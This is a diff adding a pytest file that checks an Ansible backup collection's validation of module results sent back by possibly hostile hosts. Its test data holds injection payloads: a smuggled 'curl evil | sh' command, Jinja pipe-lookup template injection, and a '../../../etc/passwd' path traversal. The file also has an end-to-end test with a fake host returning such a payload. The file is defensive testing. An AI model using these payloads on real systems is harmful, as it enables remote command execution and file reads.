@@ -1,0 +1,296 @@
+# Copyright (c) 2026 holdfast contributors
+# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""Results of modules, from hosts that may answer anything."""
+
+from __future__ import annotations
+
+import copy
+import json
+import subprocess
+import typing as t
+from pathlib import Path
+
+import pytest
+import yaml
+from ansible_collections.holdfast.backup.plugins.module_utils._secrets import UNBORN
+from ansible_collections.holdfast.backup.plugins.plugin_utils import _delivered
+
+ROOT = Path(__file__).parents[4]
+HASH = "$2b$12$" + "a" * 53
+NEXT = "$2b$12$" + "b" * 53
+IDENTITY: dict[str, t.Any] = {
+    "repositories": {
+        "vault": {
+            "rest_user": "web1--vault",
+            "rest_hash": HASH,
+            "rest_next_hash": None,
+            "made": True,
+            "fingerprint": "0" * 32,
+            "bundle_name": "0" * 32 + "-" + "1" * 16 + ".age",
+            "bundle": "eA==",
+            "bundle_valid": False,
+        }
+    },
+    "stale": [],
+    "pruned": [],
+}
+HOST: dict[str, t.Any] = {
+    "packages": {"restic": {"installed": None, "candidate": "0.18.0-1"}},
+    "binaries": {"/usr/bin/restic": None},
+    "calendars": {"daily": {"valid": True, "error": None, "next_elapse": "2026-11-22T00:00:00Z"}},
+    "resolve": {"vault1": {"addresses": ["192.0.2.1"], "error": None, "variable": None}},
+    "accounts": {"holdfast": True},
+    "files": {"/usr/local/bin/holdfast": None},
+    "mounts": {"/mnt": True, "/slow": None},
+    "running": ["holdfast-system--vault.service"],
+    "manifests": {"file_tree": {"jobs": ["/etc/x"]}, "units": {}},
+    "records": {"vault": {"HOLDFAST_REPOSITORY_ID": "0123"}},
+    "htpasswd": {"fleet_id": "6f1c1f0e9a3b4d53", "users": {"web1--vault": "web1", "me": None}},
+    "sandbox": {"works": True, "error": None},
+    "systemd": 257,
+    "selinux": None,
+    "virtualization": "kvm",
+    "python": "3.13.5",
+}
+HTPASSWD: dict[str, t.Any] = {key: [] for key in _delivered.RESULTS["htpasswd"]}
+AUTHORITY: dict[str, t.Any] = {
+    "ca": None,
+    "leaf_not_after": 1803254400,
+    "fingerprint": "40808e",
+    "pending": False,
+    "served_names": ["vault1"],
+    "certificate_file": "/c",
+    "key_file": "/k",
+}
+GOOD = {"host_info": HOST, "identity": IDENTITY, "htpasswd": HTPASSWD, "tls_authority": AUTHORITY}
+
+
+@pytest.fixture(scope="module")
+def certificate(tmp_path_factory: pytest.TempPathFactory) -> str:
+    path = tmp_path_factory.mktemp("ca") / "ca.pem"
+    command = "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout /dev/null -subj /CN=ca -out"
+    subprocess.run([*command.split(), str(path)], check=True, capture_output=True, timeout=30)
+    return path.read_text()
+
+
+@pytest.mark.parametrize("module", sorted(GOOD))
+def test_a_good_answer_is_kept(module: str) -> None:
+    assert _delivered.accept(module, {"changed": True, **GOOD[module]}) == {"changed": True, **GOOD[module]}
+
+
+@pytest.mark.parametrize("module", sorted(GOOD))
+def test_the_schema_is_the_documented_result(module: str) -> None:
+    text = (ROOT / f"plugins/modules/{module}.py").read_text()
+    documented = yaml.safe_load(text.split('RETURN = r"""')[1].split('"""')[0])
+    assert set(_delivered.RESULTS[module]) == set(documented)
+
+
+def bad(module: str, key: str, value: t.Any) -> tuple[str, str, t.Any]:
+    return module, key, value
+
+
+def entry(**changes: t.Any) -> dict[str, t.Any]:
+    return {"vault": {**IDENTITY["repositories"]["vault"], **changes}}
+
+
+BAD = [
+    bad("host_info", "packages", ["restic"]),
+    bad("host_info", "packages", {"restic": "0.18.0"}),
+    bad("host_info", "packages", {"restic": {"installed": 18, "candidate": None}}),
+    bad("host_info", "calendars", {"daily": {"valid": "no", "error": None, "next_elapse": None}}),
+    bad("host_info", "calendars", {"daily": None}),
+    bad("host_info", "resolve", {"vault1": {"addresses": "x", "error": None}}),
+    bad("host_info", "running", "holdfast-system--vault.service"),
+    bad("host_info", "running", [{"a": 1}]),
+    bad("host_info", "running", ["x" * 5000]),
+    bad("host_info", "running", ["\ud800"]),
+    bad("host_info", "running", ["x"] * 20000),
+    bad("host_info", "htpasswd", {"fleet_id": 5, "users": {}}),
+    bad("host_info", "htpasswd", {"fleet_id": "x; curl evil | sh", "users": {}}),
+    bad("host_info", "htpasswd", {"fleet_id": "6f1c1f0e9a3b4d53", "users": ["web1--vault"]}),
+    bad("host_info", "htpasswd", {"fleet_id": "6f1c1f0e9a3b4d53", "users": {"a\nb": "x"}}),
+    bad("host_info", "htpasswd", {"fleet_id": "6f1c1f0e9a3b4d53", "users": {"web1--vault": {}}}),
+    bad("host_info", "records", {"../x": {}}),
+    bad("host_info", "systemd", "257"),
+    bad("host_info", "systemd", True),
+    bad("host_info", "sandbox", True),
+    bad("host_info", "files", None),
+    bad("tls_authority", "ca", "{{ lookup('pipe', 'id') }}"),
+    bad("tls_authority", "ca", ["-----BEGIN CERTIFICATE-----"]),
+    bad("tls_authority", "ca", "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"),
+    bad("tls_authority", "ca", UNBORN),
+    bad("tls_authority", "pending", "yes"),
+    bad("htpasswd", "switched", "web1--vault"),
+    bad("htpasswd", "switched", [5]),
+    bad("htpasswd", "refused", None),
+    bad("identity", "repositories", {"vault": HASH}),
+    bad("identity", "repositories", {"../vault": entry()["vault"]}),
+    bad("identity", "repositories", entry(rest_hash="{{ 7 * 7 }}")),
+    bad("identity", "repositories", entry(rest_hash="$2b$31$" + "a" * 53)),
+    bad("identity", "repositories", entry(rest_hash=UNBORN)),
+    bad("identity", "repositories", entry(rest_next_hash=[HASH])),
+    bad("identity", "repositories", entry(rest_user="a:b")),
+    bad("identity", "repositories", entry(bundle_name="../../../etc/passwd")),
+    bad("identity", "repositories", entry(bundle="not base64!")),
+    bad("identity", "repositories", entry(fingerprint={"a": 1})),
+    bad("identity", "stale", {"a": 1}),
+]
+
+
+@pytest.mark.parametrize(("module", "key", "value"), BAD)
+def test_an_answer_of_another_type_is_one_error(module: str, key: str, value: t.Any) -> None:
+    with pytest.raises(ValueError, match=rf"\A{module}\.{key}.*is not .*look at what answers on this host"):
+        _delivered.accept(module, {"changed": False, **GOOD[module], key: value})
+
+
+def test_a_missing_key_is_an_error() -> None:
+    said = {key: value for key, value in HOST.items() if key != "running"}
+    assert _delivered.accept("host_info", {**said, "running": None})["running"] is None
+    with pytest.raises(ValueError, match=r"host_info\.packages"):
+        _delivered.accept("host_info", {})
+
+
+def test_an_error_shows_no_bundle() -> None:
+    with pytest.raises(ValueError, match="repositories") as caught:
+        _delivered.accept("identity", {"repositories": entry(bundle="hunter22!"), "stale": [], "pruned": []})
+    assert "hunter22" not in str(caught.value)
+
+
+def test_a_certificate_is_kept(certificate: str) -> None:
+    assert _delivered.accept("tls_authority", {**AUTHORITY, "ca": certificate})["ca"] == certificate
+    for odd in (certificate + "x", certificate * 9, "\n" + certificate):
+        with pytest.raises(ValueError, match=r"tls_authority\.ca"):
+            _delivered.accept("tls_authority", {**AUTHORITY, "ca": odd})
+
+
+def test_check_mode_cannot_know_everything() -> None:
+    said = {**IDENTITY, "repositories": entry(rest_hash=UNBORN, fingerprint=UNBORN, bundle_name=UNBORN, bundle=UNBORN)}
+    assert _delivered.accept("identity", said, check_mode=True) == said
+    assert _delivered.accept("tls_authority", {**AUTHORITY, "ca": UNBORN}, check_mode=True)["ca"] == UNBORN
+
+
+@pytest.mark.parametrize("module", ["identity", "units"])
+def test_nothing_that_ansible_obeys_is_kept(module: str) -> None:
+    said = {**IDENTITY, "ansible_facts": {"backup_id": "db1"}, "add_host": {}, "ansible_stats": {}, "add_group": "x"}
+    assert not set(_delivered.accept(module, said)) & set(_delivered.OBEYED)
+
+
+def test_a_failure_brings_its_message_only() -> None:
+    said = {"failed": True, "msg": "no", **IDENTITY, "ansible_facts": {}}
+    assert _delivered.accept("identity", said) == {"failed": True, "msg": "no"}
+
+
+def test_every_module_that_runs_on_a_host_is_checked() -> None:
+    routed = yaml.safe_load((ROOT / "meta/runtime.yml").read_text())["plugin_routing"]["modules"]
+    assert {each["action_plugin"] for each in routed.values()} == {"holdfast.backup.delivered"}
+    modules = {path.stem for path in (ROOT / "plugins/modules").glob("*.py")}
+    actions = {path.stem for path in (ROOT / "plugins/action").glob("*.py")}
+    assert modules == set(routed) | (actions - {"delivered"})
+
+
+USER = {"name": "web1--vault", "host": "web1", "backup_id": "web1", "repository": "vault", "quota": "5G"}
+
+
+def accounts(client: t.Any, **known: t.Any) -> list[dict[str, t.Any]]:
+    stored = {"rest": {"vault": {"user": "web1--vault", "hash": "stored", "next_hash": None}}, "decommissioned": None}
+    return _delivered.rest_accounts([USER], {"web1": {**stored, **known}}, {"web1": client})
+
+
+@pytest.mark.parametrize(
+    ("running", "busy"),
+    [
+        ([], False),
+        (["holdfast-system--other.service"], False),
+        (["holdfast-system--vault.service"], True),
+        (["holdfast-system--vault--pg.service"], True),
+        (None, True),
+        # A hostile client must not stop the server, and with it everybody.
+        (5, True),
+        (True, True),
+        ([5, None, {"a": 1}], False),
+        ({"a": 1}, True),
+        ("text", True),
+    ],
+)
+def test_a_clients_running_units(running: t.Any, busy: bool) -> None:
+    assert accounts({"__holdfast_host": {"running": running}})[0]["busy"] is busy
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        {},
+        {"__escrow_identity": {"repositories": 5}},
+        {"__escrow_identity": {"repositories": ["vault"]}},
+        {"__escrow_identity": {**IDENTITY, "repositories": entry(rest_hash={"a": 1})}},
+        {"__escrow_identity": {**IDENTITY, "failed": True}},
+        {"__escrow_identity": "text", "__holdfast_host": 5},
+    ],
+)
+def test_without_a_hash_of_this_run_the_stored_one_counts(said: dict[str, t.Any]) -> None:
+    found = accounts(said)[0]
+    assert found == {
+        **{key: USER[key] for key in ("name", "host", "backup_id", "quota")},
+        "hash": "stored",
+        "next_hash": None,
+        "busy": True,
+    }
+
+
+def test_the_hash_of_this_run_counts() -> None:
+    born = {"__escrow_identity": {**IDENTITY, "repositories": entry(rest_next_hash=NEXT)}}
+    assert (accounts(born)[0]["hash"], accounts(born)[0]["next_hash"]) == (HASH, NEXT)
+
+
+def test_a_client_that_was_given_up_has_no_account() -> None:
+    assert accounts({}, decommissioned={"time": "today"}) == []
+    stored = {"rest": {}, "decommissioned": None}
+    assert _delivered.rest_accounts([USER], {"web1": stored}, {}, "web1") == []
+    assert _delivered.rest_accounts([USER], {"web1": stored}, {})[0]["hash"] == ""
+
+
+PLAY = """
+- hosts: evil
+  gather_facts: false
+  tasks:
+    - holdfast.backup.host_info:
+      register: seen
+- hosts: victim
+  gather_facts: false
+  tasks:
+    - ansible.builtin.debug:
+        msg: "{{ hostvars.evil.seen.virtualization | default('none') }} {{ hostvars.evil.backup_id | default('none') }}"
+"""
+
+
+@pytest.mark.parametrize("systemd", [257, "257"])
+def test_ansible_checks_it_and_renders_no_text_of_a_host(tmp_path: Path, systemd: t.Any) -> None:
+    """With a host that answers whatever is run on it by itself."""
+    proof = tmp_path / "proof"
+    text = "{{ lookup('ansible.builtin.pipe', 'touch " + str(proof) + "') }}"
+    said = copy.deepcopy({**HOST, "systemd": systemd, "virtualization": text, "ansible_facts": {"backup_id": "db1"}})
+    (tmp_path / "answer.json").write_text(json.dumps(said))
+    python = tmp_path / "python"
+    python.write_text(f"#!/bin/sh\ncat >/dev/null\ncat {tmp_path}/answer.json\n")
+    python.chmod(0o755)
+    (tmp_path / "play.yml").write_text(PLAY)
+    (tmp_path / "inventory.ini").write_text(
+        f"evil ansible_connection=local ansible_python_interpreter={python}\nvictim ansible_connection=local\n"
+    )
+    done = subprocess.run(
+        [ROOT / ".venv/bin/ansible-playbook", "-i", tmp_path / "inventory.ini", tmp_path / "play.yml"],
+        env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "ANSIBLE_COLLECTIONS_PATH": str(ROOT / ".collections")},
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+    )
+    assert not proof.exists()
+    if systemd == 257:
+        assert "lookup('ansible.builtin.pipe'" in done.stdout, done.stdout + done.stderr
+        assert " none" in done.stdout
+        assert done.returncode == 0
+    else:
+        assert "host_info.systemd = '257': is not a version number or null" in done.stdout, done.stdout + done.stderr
+        assert done.returncode != 0
